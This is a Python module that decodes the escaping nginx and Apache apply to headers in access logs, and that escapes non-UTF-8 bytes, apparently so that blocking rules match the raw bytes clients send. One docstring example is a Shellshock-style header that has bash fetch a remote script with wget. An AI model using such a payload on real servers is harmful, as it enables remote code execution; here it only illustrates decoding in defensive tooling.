"""Undo the escaping a web server applies when it writes a header into a text access log.

A rule must be made from the header the server matches at request time, not from its logged
form: nginx logs ``"``, ``\\`` and bytes outside printable ASCII as ``\\xHH`` (``escape=default``),
Apache logs ``"`` and ``\\`` as ``\\"`` and ``\\\\``, tab, newline and friends as ``\\t``, ``\\n``
..., other control bytes as ``\\xhh``. So ``\\x22wget`` in a log is ``"wget`` on the wire, and a
token ``x22wget`` read from the log would match nothing a client sends.

Both servers escape every backslash they log, so decoding both forms is exact for either log;
a value that was never escaped (a JSON log, already decoded by its reader) only changes if it
carries a literal ``\\x``-sequence. A log written without escaping (nginx ``escape=none`` or
``escape=json``, a proxy) holds a header's raw bytes: bytes that are not UTF-8 are read as the
``\\xHH`` escape nginx would have written (:func:`escape_raw_bytes`), so they come back as
the same bytes too.
"""

from __future__ import annotations

import re

__all__ = ["escape_raw_bytes", "unescape"]

_ESCAPE = re.compile(rb'\\(?:x([0-9A-Fa-f]{2})|([\\"])|([btnrv]))')
_CONTROL = {b"b": b"\b", b"t": b"\t", b"n": b"\n", b"r": b"\r", b"v": b"\v"}
_RAW_BYTE = re.compile("[\udc80-\udcff]")  # a byte that is not UTF-8, as surrogateescape reads it


def _byte(match: re.Match[bytes]) -> bytes:
    hex_code, literal, control = match.groups()
    if hex_code is not None:
        return bytes([int(hex_code, 16)])
    return literal if literal is not None else _CONTROL[control]


def unescape(value: str) -> str:
    r"""The header a server logged as ``value``; invalid UTF-8 comes back as surrogate escapes.

    Examples:
        >>> print(unescape(r"() { :; }; /bin/bash -c \x22wget http://x/x.sh\x22"))
        () { :; }; /bin/bash -c "wget http://x/x.sh"
        >>> unescape(r"Apache \"quoted\" back\\slash\ttab"), unescape(r"\xC3\xBC \xFF")
        ('Apache "quoted" back\\slash\ttab', 'ü \udcff')
    """
    if "\\" not in value:
        return value
    raw = value.encode("utf-8", "surrogateescape")
    return _ESCAPE.sub(_byte, raw).decode("utf-8", "surrogateescape")


def escape_raw_bytes(block: bytes, *, json: bool = False) -> bytes:
    r"""``block`` with every byte that is not UTF-8 written as the ``\xHH`` escape nginx logs.

    Why: read as UTF-8 with replacement, such bytes would all become U+FFFD, and an exact rule
    made from that agent would match nothing the client sends. Escaped, they are read like an
    escaped log's (:func:`unescape` gives back the bytes). In a JSON log the backslash is itself
    escaped, so the decoded string holds the same ``\xHH``. Blocks of valid UTF-8 are returned
    as they are (ASCII checked first: nearly every log).

    A block is checked in pieces of whole lines (:data:`PIECE_BYTES`): one stray byte in a
    block of 8 MiB then costs the decoding of its piece, not of the whole block (decoding and
    rewriting a whole block took a third of the parse of a log with a few such lines).

    Examples:
        >>> escape_raw_bytes(b'"\xff\xfe crawler \xc3" \xc3\xbc\n')
        b'"\\xff\\xfe crawler \\xc3" \xc3\xbc\n'
        >>> escape_raw_bytes(b'{"ua": "\xff"}', json=True), unescape(r"\xff")
        (b'{"ua": "\\\\xff"}', '\udcff')
    """
    if block.isascii():
        return block
    pieces: list[bytes] = []
    changed = False
    start, size = 0, len(block)
    while start < size:
        # A newline is ASCII, so a cut after one never splits a UTF-8 sequence.
        end = block.find(b"\n", start + PIECE_BYTES)
        end = size if end < 0 else end + 1
        piece = block[start:end]
        if not _is_utf8(piece):
            piece, changed = _escaped(piece, json), True
        pieces.append(piece)
        start = end
    return b"".join(pieces) if changed else block


#: Bytes checked at once by :func:`escape_raw_bytes` (cut at the next newline).
PIECE_BYTES = 64 * 1024


def _is_utf8(piece: bytes) -> bool:
    if piece.isascii():
        return True
    try:
        piece.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def _escaped(piece: bytes, json: bool) -> bytes:
    form = "\\\\x{:02x}" if json else "\\x{:02x}"
    text = piece.decode("utf-8", "surrogateescape")
    return _RAW_BYTE.sub(lambda m: form.format(ord(m.group()) - 0xDC00), text).encode("utf-8")
